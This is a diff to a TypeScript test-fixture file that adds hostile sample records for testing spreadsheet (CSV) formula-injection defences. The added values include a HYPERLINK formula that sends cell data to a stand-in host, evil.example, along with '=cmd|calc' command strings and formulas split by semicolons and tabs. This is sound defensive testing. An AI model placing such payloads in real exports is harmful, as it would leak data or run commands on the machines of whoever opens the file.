@@ -1,8 +1,9 @@
 /**
  * Hand-made snapshots for tests. `sampleSnapshot()` is small and hostile: formula-like text in every text
- * column, spreadsheet tricks (fullwidth signs, leading spaces and zero-width characters), quotes, commas,
- * tabs and line breaks inside values, markup, emoji and other scripts, ids with leading zeros or that look
- * like numbers, unknown fields, and empty values. `syntheticSnapshot(n)` is large and plain, for scale checks.
+ * column, spreadsheet tricks (fullwidth signs, leading spaces and zero-width characters, formulas after a
+ * `;`, a tab or a line break for readers that split there), quotes, commas, tabs and line breaks inside values,
+ * markup, emoji and other scripts, ids with leading zeros or that look like numbers, unknown fields, and empty
+ * values. `syntheticSnapshot(n)` is large and plain, for scale checks.
  * Both go through `SnapshotSchema`, so they are what the rest of the code receives.
  */
 import { type Snapshot, SnapshotSchema } from '../shared/schema.ts';
@@ -21,6 +22,11 @@ function address(n: number, summary: string, type: string | null = 'billing') {
 const PARIS = address(1, '12 rue de la Paix, 75002 Paris, FR');
 const FORMULA_ADDRESS = address(2, '=HYPERLINK("http://evil.example/?"&A1,"Open"), 1 Main St', 'shipping');
 const MULTILINE_ADDRESS = address(3, 'Bâtiment B\r\n3 quai "des Célestins"\n69002 Lyon\rFR', null);
+const SPLIT_FORMULA_ADDRESS = address(
+  4,
+  'Bât. A;=HYPERLINK("http://evil.example/?"&A1,"Open");"=2+2"\n=3+3\r\n@SUM(A1)',
+  'shipping',
+);
 
 const ACME = id(1);
 const FORMULA_CUSTOMER = id(2);
@@ -49,8 +55,8 @@ const customers = [
     id_erp: '=1+1',
     id_accounting: '\t0042',
     tax_ids: [],
-    addresses: [],
-    contact_count: 2,
+    addresses: [SPLIT_FORMULA_ADDRESS],
+    contact_count: 3,
   },
   {
     id: UNREADABLE_CUSTOMER,
@@ -165,13 +171,27 @@ const contacts = [
   }),
   contact(6, FORMULA_CUSTOMER, { email: 'only.email@example.com', role: [] }),
   contact(7, UNREADABLE_CUSTOMER, { first_name: 'Orphan', last_name: '-' }),
+  // Read as `;`- or tab-separated, as French and German spreadsheets read a comma file, each part after a `;`
+  // or a tab is a cell of its own: "Ann;=1+1","5;=2+2" became the formula `=1+1,5`.
+  contact(8, FORMULA_CUSTOMER, {
+    first_name: 'Ann;=1+1',
+    last_name: '5;=2+2',
+    email: 'ann@example.com;-1',
+    phone: '+33 6 12 34 56 78;+1',
+    role: ['buyer;=cmd'],
+    id_crm: '0042; ＝1+1',
+    id_erp: 'ERP\t=cmd|calc',
+    id_accounting: '7;"=4+4"',
+    address_ids: [SPLIT_FORMULA_ADDRESS.id],
+    addresses: [SPLIT_FORMULA_ADDRESS],
+  }),
 ];
 
 const sample = {
   schema_version: 1,
   generated_at: '2024-05-01T02:00:00.000Z',
   source: { host: 'qwoty.app', customer_id: null, demo: false },
-  counts: { contacts: contacts.length, customers: customers.length, addresses: 3, rejected: 0 },
+  counts: { contacts: contacts.length, customers: customers.length, addresses: 4, rejected: 0 },
   warnings: ['Customer 00000000-0000-4000-8000-000000000003 could not be read (403).'],
   customers,
   contacts,
